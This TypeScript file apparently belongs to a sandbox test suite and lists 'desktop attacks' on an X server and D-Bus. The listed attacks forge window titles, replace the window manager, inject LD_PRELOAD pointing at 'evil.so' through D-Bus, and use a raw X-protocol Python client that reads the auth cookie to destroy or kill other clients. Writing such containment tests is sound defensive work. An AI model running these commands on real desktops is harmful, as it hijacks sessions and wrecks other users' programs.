import type { ShellAttack } from './attack.js';

/** Attacks by clients of the desktop's X server and buses. */

const desktop = (name: string, text: string, more: Partial<ShellAttack> = {}): ShellAttack => ({
  name,
  on: ['desktop'],
  program: 'sh',
  text,
  ...more,
});

/** Speaks the X protocol itself, so that no library is needed. */
const client = String.raw`
import os, re, socket, struct
cookie = open(os.environ['XAUTHORITY'], 'rb').read()[-16:]
number = re.sub(r'.*:(\d+).*', r'\1', os.environ['DISPLAY'])
server = socket.socket(socket.AF_UNIX)
server.connect('/tmp/.X11-unix/X' + number)
server.sendall(struct.pack('<BxHHHHxx', 0x6c, 11, 0, 18, 16) + b'MIT-MAGIC-COOKIE-1\0\0' + cookie)
def read(n):
    data = b''
    while len(data) < n: data += server.recv(n - len(data)) or exit(0)
    return data
head = read(8)
setup = read(struct.unpack('<H', head[6:8])[0] * 4)
vendor, formats = struct.unpack('<H', setup[16:18])[0], setup[21]
root = struct.unpack('<I', setup[32 + (vendor + 3) // 4 * 4 + formats * 8:][:4])[0]
def children(window):
    server.sendall(struct.pack('<BxHI', 15, 2, window))
    while True:
        reply = read(32)
        if reply[0] == 1: break
    body = read(struct.unpack('<I', reply[4:8])[0] * 4)
    return list(struct.unpack(f'<{len(body) // 4}I', body))
`;

export const desktopAttacks: readonly ShellAttack[] = [
  desktop(
    'windows that only have the titles',
    `
for title in $(xprop -root _NET_CLIENT_LIST 2>/dev/null | grep -o '0x[0-9a-f]*'); do
  xprop -id $title -f WM_NAME 8s -set WM_NAME forged -f _NET_WM_NAME 8u -set _NET_WM_NAME forged 2>/dev/null
done
xprop -root -remove _NET_CLIENT_LIST 2>/dev/null
xprop -root -f _NET_ACTIVE_WINDOW 32x -set _NET_ACTIVE_WINDOW 0x0 2>/dev/null
true`,
    { spoils: true },
  ),
  desktop(
    'another window manager, and the end of this one',
    `
openbox --reconfigure; openbox --restart; openbox --exit
setsid openbox --replace --sm-disable >/dev/null 2>&1 &
sleep 0.5
true`,
    { spoils: true },
  ),
  desktop(
    'a browser and a server of the agent on the same screen',
    `
(Xvfb "$DISPLAY" -screen 0 640x480x24 & chromium-headless-shell --no-sandbox --headless --dump-dom 'data:text/html,done' & xterm -T done -e sleep 5 &) >/dev/null 2>&1
sleep 0.3
true`,
    { spoils: true },
  ),
  desktop(
    'services and environment by the buses',
    `
a11y=$AT_SPI_BUS_ADDRESS
call() { timeout 2 dbus-send --bus="$a11y" --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus "$@" 2>/dev/null; }
call org.freedesktop.DBus.UpdateActivationEnvironment dict:string:string:LD_PRELOAD,/home/agent/evil.so && echo reached environment
for service in org.freedesktop.FileManager1 org.gnome.Terminal org.xfce.Thunar ca.desrt.dconf org.freedesktop.systemd1; do
  call org.freedesktop.DBus.StartServiceByName string:$service uint32:0 && echo "reached $service"
done
call org.freedesktop.DBus.RequestName string:org.a11y.atspi.Registry uint32:4 | grep -q 'uint32 1' && echo reached name
true`,
  ),
  desktop(
    'windows of others are unmapped and destroyed',
    `${client}
for window in children(root):
    for inner in children(window) + [window]:
        for request in (10, 4): server.sendall(struct.pack('<BxHI', request, 2, inner))
children(root)`,
    { program: 'python3', spoils: true },
  ),
  desktop(
    'all other clients of the X server are killed',
    `${client}
for window in children(root):
    server.sendall(struct.pack('<BxHI', 113, 2, window))
children(root)`,
    { program: 'python3', spoils: true },
  ),
];
